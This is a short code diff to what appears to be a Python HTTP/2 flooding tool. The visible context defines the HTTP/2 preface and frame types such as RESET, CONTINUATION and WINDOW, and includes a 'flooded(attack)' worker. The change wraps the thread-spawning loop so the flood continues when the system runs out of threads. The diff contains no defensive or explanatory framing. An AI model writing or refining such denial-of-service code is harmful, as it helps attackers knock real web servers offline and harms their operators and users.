@@ -5,6 +5,7 @@ import os
 import socket
 import threading
 import time
+from contextlib import suppress
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 HEADERS, RESET, SETTINGS, PING, WINDOW, CONTINUATION = 1, 3, 4, 6, 8, 9
@@ -71,6 +72,7 @@ def flooded(attack: int) -> None:
             time.sleep(0.01)
 
 
-for attack in range(LINES):
-    threading.Thread(target=flooded, args=(attack,), daemon=True).start()
+with suppress(RuntimeError):  # no more threads: the others go on
+    for attack in range(LINES):
+        threading.Thread(target=flooded, args=(attack,), daemon=True).start()
 time.sleep(SECONDS)
